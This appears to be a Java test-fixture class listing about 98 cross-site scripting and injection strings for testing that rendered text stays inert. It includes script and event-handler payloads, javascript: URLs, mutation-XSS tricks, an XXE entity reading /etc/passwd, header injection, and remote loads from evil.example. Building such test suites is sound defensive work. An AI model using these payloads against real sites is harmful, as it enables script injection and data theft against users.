package org.yizhan;

import java.util.List;

/** Texts that run a script, load something or change the page wherever they reach a browser as markup. */
final class HostileTexts {

    /** They break out of text, attributes, comments, CDATA, JSON and style, or only look harmless. */
    static final List<String> ALL = List.of(
            // plain tags
            "<script>alert(1)</script>",
            "<ScRiPt>alert(2)</sCrIpT >",
            "<script/src=//evil.example/3.js></script>",
            "<script\n>alert(4)</script\t>",
            "<<script>alert(5);//<</script>",
            "<script>alert(6)",
            "</title><script>alert(7)</script>",
            "</textarea><script>alert(8)</script>",
            "</style><script>alert(9)</script>",
            "</script><script>alert(10)</script>",
            // handlers
            "<img src=x onerror=alert(11)>",
            "<img src=x oneonerrorrror=alert(12) onerror = 'alert(12)'>",
            "<img/src=\"x\"/onerror=alert(13)>",
            "<img src=`x` onerror=alert(14)//>",
            "<body onload=alert(15)>",
            "<input autofocus onfocus=alert(16)>",
            "<details open ontoggle=alert(17)>题</details>",
            "<marquee onstart=alert(18)>题</marquee>",
            "<video><source onerror=alert(19)></video>",
            "<audio src=x onerror=alert(20)></audio>",
            "<a href=# onclick=alert(21) onmouseover=alert(21)>链接</a>",
            "<select autofocus onfocus=alert(22)></select>",
            "<p style=animation:x onanimationstart=alert(23)><style>@keyframes x{}</style>",
            // out of attributes
            "\"><script>alert(24)</script>",
            "'><script>alert(25)</script>",
            "\" autofocus onfocus=\"alert(26)",
            "' autofocus onfocus='alert(27)",
            "`onmouseover=alert(28)`",
            "x\" onerror=\"alert(29)\" src=\"x",
            "\\\"><img src=x onerror=alert(30)>",
            // addresses
            "javascript:alert(31)",
            "JaVaScRiPt:alert(32)",
            "java\tscript:alert(33)",
            " \u0001javascript:alert(34)",
            "javascript://news.example/%0Aalert(35)",
            "data:text/html,<script>alert(36)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgzNyk8L3NjcmlwdD4=",
            "vbscript:msgbox(38)",
            "https://news.example/\" onerror=\"alert(39)",
            "//evil.example/40.js",
            "<a href=\"jav&#x09;ascript:alert(41)\">链接</a>",
            "<a href=\"&#106;&#97;vascript&colon;alert(42)\">链接</a>",
            "<form action=javascript:alert(43)><button formaction=javascript:alert(43)>按</button></form>",
            "<iframe src=javascript:alert(44)></iframe>",
            "<iframe srcdoc=\"<script>parent.alert(45)</script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(46)</script>\"></object>",
            "<embed src=//evil.example/47.svg>",
            "<base href=//evil.example/><a href=48>链接</a>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/49\">",
            "<link rel=stylesheet href=//evil.example/50.css>",
            // SVG and MathML
            "<svg onload=alert(51)>",
            "<svg><script>alert(52)</script></svg>",
            "<svg><animate onbegin=alert(53) attributeName=x dur=1s></svg>",
            "<svg><a xlink:href=\"javascript:alert(54)\"><text y=20>链接</text></a></svg>",
            "<svg><foreignObject><iframe srcdoc=\"<script>alert(55)</script>\"></iframe></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\"></use></svg>",
            "<math href=\"javascript:alert(57)\">链接</math>",
            // what a second parser reads otherwise
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(58)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(59)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(60)>",
            "<svg></p><style><a id=\"</style><img src=x onerror=alert(61)>\">",
            "<xmp><img alt=\"</xmp><img src=x onerror=alert(62)>\"></xmp>",
            "<listing>&lt;img src=x onerror=alert(63)&gt;</listing>",
            "<template><script>alert(64)</script></template>",
            "<!--[if gte IE 4]><script>alert(65)</script><![endif]-->",
            "--><script>alert(66)</script><!--",
            "--!><img src=x onerror=alert(67)>",
            "]]><script>alert(68)</script><![CDATA[",
            "<![CDATA[<script>alert(69)</script>]]>",
            "<?xml-stylesheet href=\"javascript:alert(70)\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(72)</x:script>",
            "&lt;script&gt;alert(73)&lt;/script&gt;",
            "&amp;lt;img src=x onerror=alert(74)&amp;gt;",
            "&#60;script&#62;alert(75)&#60;/script&#62;",
            // templates, JSON, headers
            "${alert(76)}{{constructor.constructor('alert(76)')()}}#{7*7}<%= 7*7 %>",
            "!{alert(77)}@{alert(77)}$unsafe{alert(77)}",
            "\"}</script><script>alert(78)</script>{\"",
            "\\u003cscript\\u003ealert(79)\\u003c/script\\u003e",
            "\\x3cimg src=x onerror=alert(80)\\x3e",
            "题\r\nContent-Type: text/html\r\n\r\n<script>alert(81)</script>",
            "%3Cscript%3Ealert(82)%3C/script%3E",
            "%253Cimg%2520src=x%2520onerror=alert(83)%253E",
            // style
            "<style>@import '//evil.example/84.css';</style>",
            "<p style=\"background:url(//evil.example/85)\">题</p>",
            "<p style=\"width:expression(alert(86));position:fixed;inset:0\">题</p>",
            "<p style=\"behavior:url(//evil.example/87.htc)\">题</p>",
            // letters that become others, or none
            "\uFF1Cscript\uFF1Ealert(88)\uFF1C/script\uFF1E",
            "\u2039img src=x onerror=alert(89)\u203A",
            "<scr\u0000ipt>alert(90)</scr\u0000ipt>",
            "<img\u000Bsrc=x\u000Conerror=alert(91)>",
            "<\u017Fcript>alert(92)</\u017Fcript>",
            "+ADw-script+AD4-alert(93)+ADw-/script+AD4-",
            "\u202E<script>alert(94)</script>\u202C",
            "\u2066\u202Egpj.exe\u2069<img src=x onerror=alert(95)>",
            "\u00AD\u200B\uFEFF<script>alert(96)</script>",
            "\uD83D<script>alert(97)</script>\uDE00",
            "\u0300\u0301\u0302".repeat(60) + "<img src=x onerror=alert(98)>");

    private HostileTexts() {}

    /** The same without the control characters and half characters that no identity may have. */
    static String visible(String text) {
        return text.codePoints()
                .filter(c -> !Character.isISOControl(c) && Character.getType(c) != Character.SURROGATE)
                .filter(c -> Character.getType(c) != Character.FORMAT)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }
}
